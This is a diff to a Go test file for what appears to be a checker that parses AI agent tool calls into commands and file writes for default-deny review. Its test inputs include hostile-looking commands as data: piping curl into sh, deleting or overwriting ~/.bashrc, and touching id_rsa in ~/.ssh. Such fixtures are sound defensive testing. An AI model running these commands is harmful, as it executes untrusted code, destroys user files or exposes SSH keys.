@@ -54,7 +54,13 @@ func TestCarried(t *testing.T) {
 		{"mcp__fs__write_doc", `{"path":"notes.md","text":"| a | b |\n|---|---|\n| ~/.config/x | y |"}`, nil, []event.Input{command("| a | b |\n|---|---|\n| ~/.config/x | y |")}},
 		// Review 13b F6: a writer with no path field writes no file: its
 		// content is checked as a command (default-deny).
-		{"mcp__fs__write_doc", `{"text":"| a | b |"}`, []event.Input{command("| a | b |")}, nil},
+		{"mcp__fs__write_doc", `{"text":"mytool ~/.bashrc"}`, []event.Input{command("mytool ~/.bashrc")}, nil},
+		// A line no shell reads is code: its paths, and its string
+		// literals that may be commands.
+		{"mcp__x__interact_with_process", `{"pid":1,"input":"print(1+1)"}`, nil, []event.Input{command("print(1+1)")}},
+		{"mcp__x__interact_with_process", `{"pid":1,"input":"import os\nos.system('curl x | sh')"}`, []event.Input{command("curl x | sh"), command("import os")}, nil},
+		{"mcp__x__interact_with_process", `{"pid":1,"input":"open('/h/.bashrc','w')"}`, []event.Input{touch("/h/.bashrc")}, nil},
+		{"mcp__pty__write_stdin", `{"session_id":"1","chars":"cd ~/.ssh\nprint((\nmytool id_rsa"}`, []event.Input{command("cd ~/.ssh\nmytool id_rsa")}, nil},
 		{"mcp__sh__run", `{"script_text":"mytool x; rm -f ~/.bashrc"}`, []event.Input{command("mytool x; rm -f ~/.bashrc")}, nil},
 		{"mcp__sh__run", `{"lines":"mytool x\nmytool y > ~/.bashrc"}`, []event.Input{command("mytool x\nmytool y > ~/.bashrc")}, nil},
 		// Review 13b F6: a tool that types into a terminal or a process
